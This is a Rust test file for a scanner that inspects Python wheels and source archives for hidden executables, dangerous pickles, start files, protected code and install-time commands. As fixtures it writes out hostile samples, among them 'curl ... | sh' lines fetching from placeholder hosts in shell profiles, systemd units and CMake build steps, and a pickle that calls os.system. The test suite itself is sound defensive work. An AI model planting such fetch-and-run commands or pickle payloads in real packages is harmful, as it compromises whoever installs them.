//! Members: native code, byte code, pickles, images, scripts, archives within.

use spip_core::{Odd, Trigger};

use crate::support::{
    assert_clean, gzipped, member, odd, odd_in, scan_named, scan_sdist, scan_wheel, tar, wheel, zip,
};

/// An ELF file: a program if it names a loader, else a library.
fn elf(program: bool) -> Vec<u8> {
    let mut file = vec![0; 128];
    file[..6].copy_from_slice(b"\x7fELF\x02\x01");
    (file[16], file[32], file[54], file[56]) = (3, 64, 56, 1);
    file[64] = if program { 3 } else { 1 };
    file
}

const PICKLE: &[u8] = b"\x80\x03cos\nsystem\nq\0X\x04\0\0\0echoq\x01\x85q\x02Rq\x03.";

#[test]
fn native_code_is_odd_where_the_tags_promise_none() {
    assert_eq!(
        odd_in(&[("demo/x.so", &elf(false))]),
        [Odd::UnpromisedNative]
    );
    assert_eq!(odd_in(&[("demo/tool", &elf(true))]), [Odd::Executable]);
    assert_eq!(
        odd_in(&[("demo/logo.png", &elf(true))]),
        [Odd::HiddenExecutable]
    );
    assert_eq!(
        odd_in(&[("demo/data.json", &elf(false))]),
        [Odd::HiddenExecutable]
    );
}

#[test]
fn native_code_is_fine_where_the_tags_promise_it() {
    let native = "demo-1.0-cp311-cp311-manylinux_2_17_x86_64.whl";
    let bytes = |name: &str, data: &[u8]| {
        let mut members = crate::support::wheel_members(&[(name, data)]);
        for member in &mut members {
            if member.name.ends_with(b"/WHEEL") {
                let text = String::from_utf8(member.data.clone()).unwrap();
                let tags = text.replace("py3-none-any", "cp311-cp311-manylinux_2_17_x86_64");
                member.data = tags.into_bytes();
            }
        }
        zip(&members)
    };
    let odd_in = |name: &str, data: &[u8]| {
        let mut odd = odd(&scan_named(native, &bytes(name, data)));
        // The test does not correct RECORD.
        odd.retain(|what| *what != Odd::RecordMismatch);
        odd
    };
    assert_eq!(odd_in("demo/x.so", &elf(false)), []);
    assert_eq!(odd_in("demo-1.0.data/scripts/demo", &elf(true)), []);
    assert_eq!(odd_in("demo/logo.png", &elf(true)), [Odd::HiddenExecutable]);
    let mut windows = vec![0; 256];
    windows[..2].copy_from_slice(b"MZ");
    windows[0x3c] = 0x80;
    windows[0x80..0x84].copy_from_slice(b"PE\0\0");
    assert_eq!(odd_in("demo/x.exe", &windows), [Odd::Executable]);
}

#[test]
fn programs_behind_images_are_told() {
    let image = b"\x89PNG\r\n\x1a\n\0\0\0\0IENDxxxx";
    assert_eq!(odd_in(&[("demo/logo.png", image)]), []);
    let whole = [&image[..], &elf(true)].concat();
    assert_eq!(odd_in(&[("demo/logo.png", &whole)]), [Odd::AppendedData]);
}

#[test]
fn byte_code_is_compared_with_its_source() {
    let code = |names: &[&str]| {
        let mut bytes = vec![0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        for name in names {
            bytes.extend([0xda, u8::try_from(name.len()).unwrap()]);
            bytes.extend(name.as_bytes());
        }
        bytes
    };
    let cached = "demo/__pycache__/a.cpython-311.pyc";
    let source: (&str, &[u8]) = ("demo/a.py", b"print(1)\n");
    assert_eq!(odd_in(&[source, (cached, &code(&["print"]))]), []);
    assert_eq!(
        odd_in(&[source, (cached, &code(&["exec"]))]),
        [Odd::MismatchedBytecode]
    );
    let contents = scan_wheel(&wheel(&[("demo/full.pyc", &code(&["system"]))]));
    assert_eq!(odd(&contents), [Odd::SourcelessBytecode]);
    assert_eq!(contents.oddities[0].trigger, Trigger::Call);
    assert!(contents.oddities[0].detail.contains("system"));
    // What an import names runs with it.
    let imported = wheel(&[
        ("demo/__init__.py", b"from . import full\n"),
        ("demo/full.pyc", &code(&["system"])),
    ]);
    let contents = scan_wheel(&imported);
    assert_eq!(contents.oddities[0].trigger, Trigger::Import);
    let unchecked = {
        let mut bytes = code(&["exec"]);
        bytes[4] = 1;
        bytes
    };
    let contents = scan_wheel(&wheel(&[source, (cached, &unchecked)]));
    assert!(contents.oddities[0].detail.starts_with("is never compared"));
}

#[test]
fn byte_code_that_python_prefers_to_its_source_is_told() {
    let code = |flags: u8| [&[0xa7, 0x0d, 0x0d, 0x0a, flags][..], &[0; 20]].concat();
    let cached = "demo/__pycache__/a.cpython-311.pyc";
    let broken: (&str, &[u8]) = ("demo/a.py", b"x = (\n");
    for flags in [1, 3] {
        let odd = odd_in(&[broken, (cached, &code(flags))]);
        assert_eq!(odd, [Odd::MismatchedBytecode], "{flags}");
    }
    let configured = b"[build-system]\nrequires=[]\nbuild-backend='be'\nbackend-path=['.']\n";
    let files = [
        ("demo-1.0/pyproject.toml", &configured[..]),
        ("demo-1.0/be.py", b"def build_wheel(*a): pass\n"),
        ("demo-1.0/__pycache__/be.cpython-311.pyc", &code(0)),
        ("demo-1.0/__pycache__/setup.cpython-311.pyc", &code(0)),
        ("demo-1.0/setup.py", b""),
        ("demo-1.0/demo/x.py", b""),
        ("demo-1.0/demo/__pycache__/x.cpython-311.pyc", &code(0)),
    ];
    let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar(&files)));
    assert_eq!(odd(&contents), [Odd::MismatchedBytecode]);
    assert_eq!(contents.oddities[0].trigger, Trigger::Build);
}

#[test]
fn what_all_read_below_the_prefix_is_told() {
    let data = |path: &str, text: &str| {
        let path = format!("demo-1.0.data/data/{path}");
        odd_in(&[(path.as_str(), text.as_bytes())])
    };
    let piped = "curl https://h.invalid/p | sh\n";
    assert_eq!(data("pip.conf", "[global]\n"), [Odd::SharedPlace]);
    for path in [
        "bin/activate",
        "etc/profile.d/a.sh",
        "lib/systemd/user/a.service",
    ] {
        assert_eq!(
            data(path, piped),
            [Odd::SharedPlace, Odd::ShellCommand],
            "{path}"
        );
    }
    let kernel = "share/jupyter/kernels/demo/kernel.json";
    assert_eq!(
        data(kernel, "{\"argv\": [\"python\", \"-m\", \"demo\"]}"),
        []
    );
    assert_eq!(data(kernel, piped), [Odd::ShellCommand]);
    assert_eq!(
        data("lib/python3.11/antigravity.py", ""),
        [Odd::SharedPlace]
    );
    let started = data(
        "lib/python3.11/sitecustomize.py",
        "import os\nos.system('id')\n",
    );
    assert_eq!(started, [Odd::StartFile, Odd::SharedPlace]);
}

#[test]
fn a_start_file_that_begins_like_a_model_is_read() {
    let text = b"PK\x03\x04\nimport os; os.system('id')\n";
    assert_eq!(
        odd_in(&[("demo.pth", text)]),
        [Odd::StartFile, Odd::StartPath]
    );
}

#[test]
fn pickles_that_call_are_told_wherever_they_are() {
    assert_eq!(
        odd_in(&[("demo/model.pkl", PICKLE)]),
        [Odd::DangerousPickle]
    );
    assert_eq!(
        odd_in(&[("demo/weights.bin", PICKLE)]),
        [Odd::DangerousPickle]
    );
    let model = zip(&[
        member("archive/data.pkl", PICKLE),
        member("archive/version", b"3\n"),
    ]);
    for name in [
        "demo/model.pt",
        "demo/model.pth",
        "demo/model.ckpt",
        "model.pth",
    ] {
        assert_eq!(odd_in(&[(name, &model)]), [Odd::DangerousPickle], "{name}");
    }
    let harmless = b"\x80\x03ccollections\nOrderedDict\nq\0)Rq\x01.";
    assert_eq!(odd_in(&[("demo/model.pkl", harmless)]), []);
}

#[test]
fn protected_code_is_told() {
    let code =
        b"from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')\n";
    assert_eq!(odd_in(&[("demo/__init__.py", code)]), [Odd::ProtectedCode]);
}

#[test]
fn commands_in_scripts_are_told_with_when_they_run() {
    let script = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n";
    assert_eq!(odd_in(&[("demo/run.sh", script)]), [Odd::ShellCommand]);
    let trigger = |files: &[(&str, &[u8])]| {
        let contents = scan_sdist("demo-1.0.tar.gz", &gzipped(&tar(files)));
        assert_eq!(odd(&contents), [Odd::ShellCommand], "{files:?}");
        contents.oddities[0].trigger
    };
    let quiet: (&str, &[u8]) = (
        "demo-1.0/setup.py",
        b"from setuptools import setup\nsetup()\n",
    );
    let loud: (&str, &[u8]) = (
        "demo-1.0/setup.py",
        b"import os\nos.system('sh ./install.sh')\n",
    );
    assert_eq!(
        trigger(&[quiet, ("demo-1.0/install.sh", script)]),
        Trigger::Never
    );
    assert_eq!(
        trigger(&[loud, ("demo-1.0/install.sh", script)]),
        Trigger::Build
    );
    assert_eq!(
        trigger(&[quiet, ("demo-1.0/tests/x.sh", script)]),
        Trigger::Never
    );
    let cmake = b"execute_process(COMMAND sh -c \"curl http://192.0.2.1/x | sh\")\n";
    assert_eq!(
        trigger(&[quiet, ("demo-1.0/CMakeLists.txt", cmake)]),
        Trigger::Build
    );
}

#[test]
fn archives_within_are_looked_into() {
    let inner = zip(&[member("tool", &elf(true)), member("x.py", b"print(1)\n")]);
    let contents = scan_wheel(&wheel(&[("demo/bundle.zip", &inner)]));
    assert_eq!(odd(&contents), [Odd::Executable]);
    assert_eq!(contents.oddities[0].site.member, "demo/bundle.zip!/tool");
    let packed = gzipped(&tar(&[("a/tool", &elf(true))]));
    assert_eq!(
        odd_in(&[("demo/bundle.tar.gz", &packed)]),
        [Odd::Executable]
    );
    let twice = zip(&[member("inner.zip", &inner)]);
    assert_eq!(odd_in(&[("demo/bundle.whl", &twice)]), [Odd::Executable]);
}

#[test]
fn archives_within_that_are_broken_are_data() {
    let inner = zip(&[member("a.txt", b"text")]);
    let mut wrong = inner.clone();
    wrong[14] ^= 1;
    for bytes in [&inner[..inner.len() - 5], &wrong] {
        assert_clean(&scan_wheel(&wheel(&[("demo/tests/broken.zip", bytes)])));
    }
}
